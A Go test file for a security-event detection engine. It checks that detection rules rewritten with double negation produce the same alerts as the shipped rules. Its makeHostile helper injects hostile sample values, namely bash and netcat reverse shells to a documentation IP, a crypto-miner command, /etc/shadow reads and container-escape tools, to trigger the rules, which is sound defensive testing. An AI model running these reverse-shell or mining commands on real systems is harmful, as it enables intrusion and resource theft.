package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"tallyman/pipeline/codec"
	"tallyman/pipeline/engine"
	"tallyman/pipeline/event"
	"tallyman/pipeline/schema"
)

// TestTheIndexOfRulesChangesNothing judges the demo's events twice, days apart, the
// second time with hostile ones among them: by the shipped rules, and by the same with
// each condition within two negations, in which no word to find a rule by can be seen,
// so that all are asked. Events, marks and alerts are the same, in the same order.
func TestTheIndexOfRulesChangesNothing(t *testing.T) {
	asked := filepath.Join(t.TempDir(), "asked.yaml")
	if err := os.WriteFile(asked, negated(t), 0o600); err != nil {
		t.Fatal(err)
	}
	found := laneOf(t, "[{type: rules, files: [DEMO/../rules/*.yaml]}]\nredact: off").Chain("audit")
	all := laneOf(t, fmt.Sprintf("[{type: rules, files: [DEMO/../rules/*.yaml, %q]}]\nredact: off", asked)).Chain("audit")
	alerts, rules := 0, map[string]bool{}
	for round, kept := range [][][]byte{packEvents(t), packEvents(t)} {
		for i := range kept {
			var out [2][]event.Event
			for side, chain := range []*engine.Chain{found, all} {
				var in event.Batch
				if err := codec.NewDecoder().Decode(kept[i], &in); err != nil {
					t.Fatal(err)
				}
				if round > 0 {
					later(&in, 72*time.Hour)
					makeHostile(&in)
				}
				judged, err := chain.Run(context.Background(), &in)
				if err != nil {
					t.Fatal(err)
				}
				for k := range judged.Events {
					if id := judged.Events[k].Get(schema.RuleID).Str(); side == 0 && id != "" {
						alerts, rules[id] = alerts+1, true
					}
				}
				out[side] = judged.Events // each chain's own until it runs again
			}
			if diff := cmp.Diff(out[0], out[1]); diff != "" {
				t.Fatalf("round %d, batch %d: rules that all were asked gave something else: %s", round, i, diff)
			}
		}
	}
	if alerts < 200 || len(rules) < 12 {
		t.Errorf("%d alerts of %v: too little was compared", alerts, rules)
	}
}

// negated are overrides that hide what the shipped conditions ask for.
func negated(t *testing.T) []byte {
	t.Helper()
	book, err := shippedBook()
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	b.WriteString("override:\n")
	for _, r := range book.Rules() {
		condition, err := json.Marshal("!(!(" + r.Condition + "))")
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&b, "- {id: %s, condition: %s}\n", r.ID, condition)
	}
	return b.Bytes()
}

// makeHostile changes every tenth event to one that rules are about.
func makeHostile(b *event.Batch) {
	hostile := map[schema.Key][]string{
		schema.ProcessCommandLine: {"sh -c 'bash -i >& /d\"e\"v/tcp/192.0.2.1/9 0>&1'", "nc 192.0.2.1 9 -e /bin/sh", "mkfifo /tmp/f; nc 192.0.2.1 9 </tmp/f", "XMRIG -o pool.minexmr.com:4444", "ls"},
		schema.ProcessExecutable:  {"/tmp/x", "/usr/bin/ncat", "/proc/self/fd/3", "/usr/bin/nsenter", "/bin/sh"},
		schema.ProcessName:        {"xmrig", "nsenter", "debugfs", "sh"},
		schema.FilePath:           {"/etc/shadow", "/var/log/audit/audit.log", "/proc/7/root/etc/ssh/sshd_config", "/usr/bin/runc", "/etc/cron.d/x", "/tmp/y"},
		schema.UserEffectiveID:    {"0", "33"},
	}
	for i := range b.Events {
		if i%10 != 0 {
			continue
		}
		fields := b.Events[i].Fields
		for k := range fields {
			if list := hostile[fields[k].Key]; list != nil {
				fields[k].SetValue(event.String(list[(i/10)%len(list)]))
			}
		}
	}
}
